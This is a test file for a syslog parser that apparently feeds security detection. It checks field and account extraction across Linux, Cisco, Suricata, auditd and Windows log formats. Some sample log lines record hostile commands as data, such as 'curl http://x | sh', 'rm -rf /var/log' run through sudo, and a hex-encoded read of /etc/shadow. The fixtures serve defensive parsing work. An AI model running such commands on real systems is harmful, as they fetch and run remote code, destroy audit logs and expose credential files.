import { describe, expect, test } from 'vitest';
import { syslogEnvelope } from './syslog-envelope.ts';
import { parseSyslog, yearless } from './syslog-line.ts';
import { read } from './testing/read.ts';

const now = Date.UTC(2026, 2, 1, 12);
const one = async (line: string) => {
  const { events, losses } = await read(`${line}\n`, { now });
  expect(losses).toEqual([]);
  expect(events).toHaveLength(1);
  const [event] = events;
  if (!event) throw new Error('no event');
  return event;
};

describe('every way a line is written gives the same parts', () => {
  const time = '2026-02-28T22:14:15Z';
  const written: Record<string, [string, string]> = {
    'RFC 3164': [
      '<38>Feb 28 22:14:15 pacs-01 sshd[4711]: Failed password for root from 10.9.8.7 port 50022 ssh2',
      time,
    ],
    'a file in /var/log': [
      'Feb 28 22:14:15 pacs-01 sshd[4711]: Failed password for root from 10.9.8.7 port 50022 ssh2',
      time,
    ],
    'a file with ISO times': [
      '2026-02-28T23:14:15.250+01:00 pacs-01 sshd[4711]: Failed password for root from 10.9.8.7 port 50022 ssh2',
      '2026-02-28T22:14:15.250Z',
    ],
    'RFC 5424': [
      '<38>1 2026-02-28T22:14:15.003Z pacs-01 sshd 4711 - - Failed password for root from 10.9.8.7 port 50022 ssh2',
      '2026-02-28T22:14:15.003Z',
    ],
  };
  for (const [name, [line, expected]] of Object.entries(written)) {
    test(name, async () => {
      const event = await one(line);
      expect(event.source).toMatchObject({
        key: 'linux|sshd',
        format: 'syslog',
        product: 'linux',
        service: 'sshd',
      });
      expect(event.field('program')).toBe('sshd');
      expect(event.field('pid')).toBe('4711');
      expect(event.field('hostname')).toBe('pacs-01');
      expect(event.field('message')).toBe('Failed password for root from 10.9.8.7 port 50022 ssh2');
      expect(event.envelope()).toEqual({
        time: expected,
        host: 'pacs-01',
        account: 'root',
        sourceAddress: '10.9.8.7',
      });
    });
  }
});

test('firewalls and portals say who and where in structured data', async () => {
  const traffic = await one(
    '<134>1 2026-02-28T22:14:15Z fw01 firewalld - TRAFFIC [traffic@32473 src="10.20.8.44" dst="203.0.113.50" dstport="443" sent="20401094656"] allow',
  );
  expect(traffic.envelope()).toEqual({
    time: '2026-02-28T22:14:15Z',
    host: 'fw01',
    sourceAddress: '10.20.8.44',
    destinationAddress: '203.0.113.50',
    destinationPort: 443,
  });
  const portal = await one(
    '<133>1 2026-02-28T22:14:15Z ra01 portal - LOGIN [a@1 user="dr.locum" src="2001:db8::7" dst="somewhere"] x',
  );
  expect(portal.envelope()).toMatchObject({ account: 'dr.locum', sourceAddress: '2001:db8::7' });
  expect(portal.envelope().destinationAddress).toBeUndefined();
  const gateway = await one(
    'Feb 28 22:14:15 ns1 : SSLVPN LOGIN 1 0 : Context amara@203.0.113.9 - SessionId: 5- User amara - Client_ip 203.0.113.9 - Nat_ip x',
  );
  expect(gateway.envelope()).toMatchObject({ account: 'amara', sourceAddress: '203.0.113.9' });
});

test('structured data become fields and cannot pose as the header', async () => {
  const event = await one(
    '<165>1 2026-02-28T22:14:15Z fw1 app - ID47 [exampleSDID@32473 iut="3" eventSource="a \\"b\\" \\] c" hostname="evil"][x@1 k="v"] done',
  );
  expect(event.field('iut')).toBe('3');
  expect(event.field('exampleSDID@32473.eventSource')).toBe('a "b" ] c');
  expect(event.field('k')).toBe('v');
  expect(event.field('hostname')).toBe('fw1');
  expect(event.field('message')).toBe('done');
  expect(event.field('facility')).toBe('local4');
  expect(event.field('severity')).toBe('notice');
});

test('counted frames, newlines in messages and plain lines in one stream', async () => {
  const counted = '<13>1 2026-02-28T22:14:15Z h a - - - two\nlines';
  const text = `${Buffer.byteLength(counted)} ${counted}${Buffer.byteLength(counted)} ${counted}\n<13>Feb 28 22:14:16 h b: plain\n`;
  for (const piece of [1, 7, 1000]) {
    const { events, losses } = await read(text, { now, piece });
    expect(losses).toEqual([]);
    expect(events.map((event) => event.field('message'))).toEqual(['two\nlines', 'two\nlines', 'plain']);
  }
});

describe('the log source of a line', () => {
  const lines: [string, string, string][] = [
    [
      'Feb 28 22:14:15 h sudo: amara : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/rm -rf /var/log',
      'linux',
      'sudo',
    ],
    ['Feb 28 22:14:15 h CRON[1]: (root) CMD (curl http://x | sh)', 'linux', 'cron'],
    ['Feb 28 22:14:15 h /usr/sbin/cron[1]: (root) RELOAD (x)', 'linux', 'cron'],
    ['Feb 28 22:14:15 h su[1]: session opened', 'linux', 'auth'],
    ['<86>Feb 28 22:14:15 h something: x', 'linux', 'auth'],
    ['Feb 28 22:14:15 h kernel: eth0 up', 'linux', 'syslog'],
    [
      'type=EXECVE msg=audit(1772316855.123:99): argc=2 a0="cat" a1=2F6574632F736861646F77',
      'linux',
      'auditd',
    ],
    [
      '<189>Jan 18 11:29:03 dist-sw03 %AAA-5-USER_LOGGED: User ops-jsmith executed: ping 10.20.30.1',
      'cisco',
      'aaa',
    ],
    [
      '<189>1234: rtr1: *Feb 28 22:14:15.123 UTC: %SYS-5-CONFIG_I: Configured from console by admin on vty0 (10.1.1.1)',
      'cisco',
      'aaa',
    ],
    ['<187>Feb 28 2026 22:14:15 asa1 : %ASA-6-302013: Built outbound TCP connection', 'cisco', 'asa'],
  ];
  test.each(lines)('%s', async (line, product, service) => {
    expect((await one(line)).source).toMatchObject({ product, service });
  });

  test('what people did is in the envelope', async () => {
    expect((await one((lines[0] as string[])[0] as string)).envelope().account).toBe('amara');
    expect((await one((lines[1] as string[])[0] as string)).envelope().account).toBe('root');
    expect((await one((lines[7] as string[])[0] as string)).envelope()).toEqual({
      time: '2026-01-18T11:29:03Z',
      host: 'dist-sw03',
      account: 'ops-jsmith',
    });
    expect((await one((lines[8] as string[])[0] as string)).envelope()).toEqual({
      time: '2026-02-28T22:14:15.123Z',
      host: 'rtr1',
      account: 'admin',
      sourceAddress: '10.1.1.1',
    });
  });

  test('audit text in hexadecimal is readable, arguments of system calls stay numbers', async () => {
    const event = await one((lines[6] as string[])[0] as string);
    expect(event.field('a1')).toBe('/etc/shadow');
    expect(event.field('type')).toBe('EXECVE');
    const call = await one(
      'type=SYSCALL msg=audit(1772316855.123:99): syscall=59 a0=55D0 exe="/usr/bin/cat" key="exec_log"',
    );
    expect(call.field('a0')).toBe('55D0');
    expect(call.field('exe')).toBe('/usr/bin/cat');
  });
});

test('a year that the line leaves out is the latest that is not in the future', () => {
  const at = (year: number, month: number, day: number) => Date.UTC(year, month, day, 12);
  const found = (month: number, day: number, from: number) =>
    new Date(yearless(month, day, [0, 0, 0], from) as number).getUTCFullYear();
  expect(found(11, 31, at(2026, 0, 1))).toBe(2025);
  expect(found(0, 1, at(2026, 0, 1))).toBe(2026);
  // Clocks differ: a day ahead is not a year ago.
  expect(found(0, 1, at(2025, 11, 31))).toBe(2026);
  expect(found(1, 29, at(2026, 2, 1))).toBe(2024);
  expect(yearless(1, 31, [0, 0, 0], at(2026, 2, 1))).toBeUndefined();
});

test('JSON sent through syslog is read as what it is', async () => {
  const eve = await one(
    '<13>Feb 28 22:14:15 sensor suricata[1]: {"timestamp":"2026-02-28T22:14:15+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.1"}',
  );
  expect(eve.source).toMatchObject({ product: 'suricata', service: 'dns' });
  const plain = await one('<13>Feb 28 22:14:15 h app[1]: {"some":"thing"}');
  expect(plain.source).toMatchObject({ format: 'syslog', product: 'linux' });
});

test('binary lines inside a log are named, text lines are kept for keyword rules', async () => {
  const good = 'Feb 28 22:14:15 h app: x\n';
  const { events, losses } = await read(
    `${good}${good}\ttraceback line 2\n\u0001\u0002\u0003garbage\n${good}`,
    { now },
  );
  expect(events.map((event) => event.field('message'))).toEqual(['x', 'x', '\ttraceback line 2', 'x']);
  expect(losses).toEqual([{ file: 'input', where: 'line 4', what: 'the line is not syslog', count: 1 }]);
});

test("Windows events in Snare's form are Windows events", async () => {
  const event = await one(
    '<131>Feb 28 22:14:15 dc01-hdr MSWinEventLog\t1\tSecurity\t3792\tSat Feb 28 22:14:00 2026\t4688\tMicrosoft-Windows-Security-Auditing\t-\\-\tN/A\tSuccess Audit\tdc01\tProcess Creation\t\tA new process has been created. Process Command Line: whoami /all\t1251670',
  );
  expect(event.source).toMatchObject({
    format: 'windows-json',
    fixed: { Channel: 'Security', EventID: 4688 },
  });
  expect(event.field('Message')).toContain('whoami /all');
  expect(event.envelope()).toEqual({ time: '2026-02-28T22:14:00Z', host: 'dc01' });
});

test('a time of the usual form, read by its places, is the time that reading it closely gives', () => {
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  for (const now of [Date.UTC(2026, 0, 1, 12), Date.UTC(2025, 11, 31, 23, 59, 59), Date.UTC(2024, 1, 29)]) {
    for (const [month, name] of months.entries()) {
      for (let day = 1; day <= 31; day++) {
        for (const clock of [
          [0, 0, 0],
          [23, 59, 59],
          [12, 0, 60],
        ]) {
          const at = yearless(month, day, clock, now);
          const text = clock.map((part) => String(part).padStart(2, '0')).join(':');
          const line = `${name} ${String(day).padStart(2)} ${text} host sshd[1]: x`;
          expect([line, parseSyslog(line, now)?.record.timestamp]).toEqual([
            line,
            at === undefined ? undefined : `${new Date(at).toISOString().slice(0, 19)}Z`,
          ]);
        }
      }
    }
  }
  // A zone in capitals is no host, and a month of other letters is none.
  expect(parseSyslog('Jan 18 11:29:03 UTC: %SYS-5-X: y', 0)?.record.hostname).toBeUndefined();
  expect(parseSyslog('J\0\u616e 18 11:29:03 host sshd: y', 0)).toBeUndefined();
});

test.each([
  ['Failed password for invalid user oracle from 10.1.2.3 port 22 ssh2', 'oracle', '10.1.2.3'],
  ['Disconnected from invalid user bob 10.1.2.3 port 22', 'bob', '10.1.2.3'],
  ['pam_unix(su:session): session opened for user root by amara(uid=0)', 'amara', undefined],
  ['pam_unix(sshd:session): session closed for user amara', 'amara', undefined],
  ['  amara : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh', 'amara', undefined],
  ['(root) CMD (run-parts /etc/cron.hourly)', 'root', undefined],
  ["User 'amara' executed the 'enable' command", 'amara', undefined],
  ['Session ended - User amara - Client_ip 10.1.2.3', 'amara', '10.1.2.3'],
  ['Login Success [user: amara] [Source: 10.1.2.3]', 'amara', '10.1.2.3'],
  ['Configured from console by amara on vty0 (10.1.2.3)', 'amara', '10.1.2.3'],
])('who did it is found in: %s', (message, account, sourceAddress) => {
  const found = syslogEnvelope({ message });
  expect([found.account, found.sourceAddress]).toEqual([account, sourceAddress]);
});
